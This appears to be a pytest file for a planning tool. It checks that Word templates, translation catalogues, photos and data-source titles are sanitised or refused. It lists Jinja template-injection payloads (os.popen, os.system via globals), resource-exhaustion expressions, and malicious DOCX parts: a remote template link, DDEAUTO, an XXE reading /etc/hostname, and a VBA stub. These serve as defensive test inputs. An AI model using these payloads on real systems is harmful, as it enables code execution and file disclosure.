"""Templates, catalogues, own terms and photos of others do nothing but what they are for, and `check` refuses the rest before planning."""

from __future__ import annotations

import io
import os
import sqlite3
import zipfile
from contextlib import closing

import pytest

from beatplanner.data.errors import InputError
from beatplanner.data.publish.job_descriptions import default_template
from beatplanner.data.publish.photos import clean_photo
from beatplanner.data.publish.templates import check_job_template, filled
from beatplanner.data.publish.translation import Speech, write_catalogue


def template(text: str, **more: bytes) -> bytes:
    """The program's own template with a text in place of the beat's name, and more parts."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(default_template())) as old, zipfile.ZipFile(stream, "w") as new:
        for name in old.namelist():
            data = old.read(name)
            if name == "word/document.xml":
                assert b"{{ beat_name }}" in data
                data = data.replace(
                    b"{{ beat_name }}", text.encode("utf-8").replace(b"&", b"&amp;").replace(b"<", b"&lt;")
                )
            if name not in more:
                new.writestr(name, data)
        for name, data in more.items():
            new.writestr(name, data)
    return stream.getvalue()


HOSTILE = (
    "{{ self.__init__.__globals__ }}",
    "{{ cycler.__init__.__globals__.os.popen('touch hurt').read() }}",
    "{{ beat.__class__.__mro__[1].__subclasses__() }}",
    "{{ ''.__class__ }}",
    "{{ lipsum.__globals__['os'].system('touch hurt') }}",
    "{{ range(999999999) }}",
    "{{ 'x' * 999999999 }}",
    "{{ '%999999999d' % 1 }}",
    "{{ '{:>999999999}'.format(1) }}",
    "{{ beat|center(999999999) }}",
    "{{ beat|attr('__class__') }}",
    "{{ 9 ** 9 ** 9 }}",
    "{{ beat|format(1) }}",
    "{{ beat ~ beat }}",
    "{% include 'word/document.xml' %}",
    "{% import 'x' as y %}",
    "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "{% set x = 1 %}",
    "{% for a in places %}{% for b in places %}{{ a }}{% endfor %}{% endfor %}",
    "{% for a in partners %}{% for b in partners %}{% for c in partners %}x{% endfor %}{% endfor %}{% endfor %}",
    "{% for h in holders %}{{ h.officer.__class__ }}{% endfor %}",
    "{{ holders[0].__class__ }}",
    "{{ nam }}",
    "{{ beat_nam }}",
    "{{ beat.upper() }}",
    "{{ loop.__class__ }}",
    "{% for p in partners %}{{ loop.cycle('a') }}{% endfor %}",
    "{{ beat is filter }}",
    "{{ beat",
    "{% if %}",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_template_names_fields_and_does_nothing_else(tmp_path, monkeypatch, text):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "job.docx").write_bytes(template(text))
    with pytest.raises(InputError, match="template cannot be used"):
        check_job_template(tmp_path / "job.docx")
    assert [p.name for p in tmp_path.iterdir()] == ["job.docx"]


RELS = b"""<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
 Target="http://192.0.2.1/x.dotm" TargetMode="External"/></Relationships>"""


@pytest.mark.parametrize(
    ("parts", "words"),
    [
        ({"word/_rels/settings.xml.rels": RELS}, "from elsewhere"),
        ({"word/vbaProject.bin": b"x"}, "program"),
        (
            {"word/footnotes.xml": b"<a><w:instrText>DDEAU</w:instrText><w:instrText>TO c:\\x</w:instrText></a>"},
            "fetches or starts",
        ),
        ({"word/more.xml": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]><a>&b;</a>'}, "entities"),
    ],
)
def test_a_template_that_fetches_when_it_is_opened_is_refused(tmp_path, parts, words):
    (tmp_path / "job.docx").write_bytes(template("{{ beat_name }}", **parts))
    with pytest.raises(InputError, match=words):
        check_job_template(tmp_path / "job.docx")


def test_the_programs_own_template_and_usual_changes_are_taken(tmp_path):
    for text in (
        "{{ beat_name|upper }}",
        "{% if post == posts %}last{% endif %}",
        "{{ 'a' if beat else 'b' }}",
        "{% for h in holders %}{{ loop.index }} {{ h.officer }}{% endfor %}",
        "no field",
    ):
        (tmp_path / "job.docx").write_bytes(template(text))
        check_job_template(tmp_path / "job.docx")


WRONG = (
    "{nam}",
    "{who:>999999999}",
    "{who.__class__}",
    "{who!r}",
    "{0}",
    "{}",
    "{who[0]}",
    "{",
    "who}",
    "{who} {date}",
)


@pytest.mark.parametrize("said", WRONG)
def test_own_terms_have_the_fields_of_the_english_text_only(said):
    with pytest.raises(InputError, match="cannot be used"):
        Speech("en", {"Decided by {who}.": said})


def test_a_value_is_never_looked_into():
    assert filled("{a} {{b}} {c}", {"a": "{c}", "c": "{{a}}"}) == "{c} {b} {{a}}"
    # a date of Macedonian ends in a full stop: a sentence that ends with it has one, not two
    day = {"date": "1 јули 2028 г."}
    assert filled("Почнува на {date}.", day) == "Почнува на 1 јули 2028 г."
    assert filled("{date}, {date}; {date}…", day) == "1 јули 2028 г., 1 јули 2028 г.; 1 јули 2028 г.…"
    assert Speech("en").text("Decided by {who}.", who="{who:>9}") == "Decided by {who:>9}."


def test_check_refuses_fields_before_planning(town, command):
    catalogue = town.path("our.po")
    write_catalogue(catalogue, "mk")
    text = catalogue.read_text(encoding="utf-8")
    catalogue.write_text(text.replace("{who}", "{who:>999999999}"), encoding="utf-8")
    town.path("job.docx").write_bytes(template("{{ nam }}"))
    town.swap("posts_per_beat = 1", 'posts_per_beat = 1\njob_template = "job.docx"')
    forum = '\n[forum]\nlanguages = ["mk"]\ncatalogues = { mk = "our.po" }\n'
    town.project.write_text(town.project.read_text(encoding="utf-8") + forum, encoding="utf-8")
    for arguments in (("check", town.project), ("plan", town.project, "--out", town.folder / "plan")):
        code, out, error = command(*arguments)
        assert code == 1
        said = out + error
        assert "is no plain field" in said
        assert "there is no field “nam”" in said
        assert not (town.folder / "plan").exists()


def picture(size=(1200, 40), **options) -> bytes:
    from PIL import Image

    stream = io.BytesIO()
    Image.new("RGB", size, "#123456").save(stream, "JPEG", **options)
    return stream.getvalue()


def test_a_photo_is_made_anew_from_its_pixels(tmp_path):
    from PIL import Image

    exif = Image.Exif()
    exif[0x010E] = "taken at the officer's home"
    exif.get_ifd(0x8825)[1] = "N"
    file = tmp_path / "me.jpg"
    file.write_bytes(picture(exif=exif, comment=b"secret") + b"PK\x03\x04 something behind the picture")
    clean = clean_photo(file, tmp_path)
    assert b"home" not in clean and b"secret" not in clean and b"behind" not in clean
    with Image.open(io.BytesIO(clean)) as found:
        assert found.size == (800, 27)
        assert not found.getexif()
        assert set(found.info) <= {"jfif", "jfif_version", "jfif_unit", "jfif_density"}
        assert all(abs(a - b) < 4 for a, b in zip(found.getpixel((5, 5)), (0x12, 0x34, 0x56), strict=True))


def test_a_photo_comes_from_below_the_project_only(tmp_path):
    inside, outside = tmp_path / "project", tmp_path / "elsewhere.jpg"
    inside.mkdir()
    outside.write_bytes(picture())
    places = [outside, inside / ".." / "elsewhere.jpg"]
    if os.name != "nt":  # links need rights on Windows
        (inside / "link.jpg").symlink_to(outside)
        places.append(inside / "link.jpg")
    for file in places:
        with pytest.raises(InputError, match="outside the project's folder"):
            clean_photo(file, inside)
    (inside / "text.jpg").write_text("<svg/>")
    (inside / "cut.png").write_bytes(b"\x89PNG\r\n\x1a\n" + b"\x00" * 20)
    for name in ("text.jpg", "cut.png"):
        with pytest.raises(InputError, match="no picture"):
            clean_photo(inside / name, inside)


@pytest.mark.parametrize(
    ("title", "title_shown"),
    [
        ("Census of 2021", "Census of 2021"),
        ("Попис", "Попис"),
        ("units", ""),
        ("Units ", ""),
        ("popis ana final", ""),
        ("POPIS-ANA_final.gpkg", ""),
        (r"C:\Users\ana\popis.shp", ""),
        ("home/ana/popis", ""),
        ("copy_of_ana", ""),
        ("", ""),
    ],
)
def test_the_name_of_a_layer_or_a_file_is_no_title_of_a_source(tmp_path, title, title_shown):
    from beatplanner.data.result.provenance import _title

    file = tmp_path / "popis_ana_final.gpkg"
    with closing(sqlite3.connect(file)) as database, database:
        database.execute("CREATE TABLE gpkg_contents (table_name TEXT, identifier TEXT)")
        database.execute("INSERT INTO gpkg_contents VALUES ('units', ?)", (title,))
    assert _title(file) == title_shown


def test_a_name_that_looks_like_a_formula_is_drawn_letter_by_letter():
    """The library that draws takes a text with two dollar signs for a formula, and ends in an error where it is none."""
    import re
    from pathlib import Path

    import beatplanner
    from beatplanner.data.publish.plain_figure import plain_figure

    figure = plain_figure(2, 2)
    axes = figure.subplots()
    axes.annotate("$\\frac{$", (0, 0))
    axes.set_yticks([0], ["$\\x$"])
    figure.savefig(io.BytesIO())
    assert figure.texts == [] and axes.texts[0].get_text() == "$\\frac{$"
    # every figure with texts of data begins there, and none lets the library break lines, which looks for formulas all the same
    for file in Path(beatplanner.__file__).parent.rglob("*.py"):
        # what is imported for types alone begins nothing
        source = re.sub(r"if TYPE_CHECKING:\n(?: +.*\n)+", "", file.read_text("utf-8"))
        if file.name not in ("plain_figure.py", "sample_forum.py"):
            assert not re.search(r"matplotlib\.figure import|wrap=True|\"wrap\": True", source), file.name
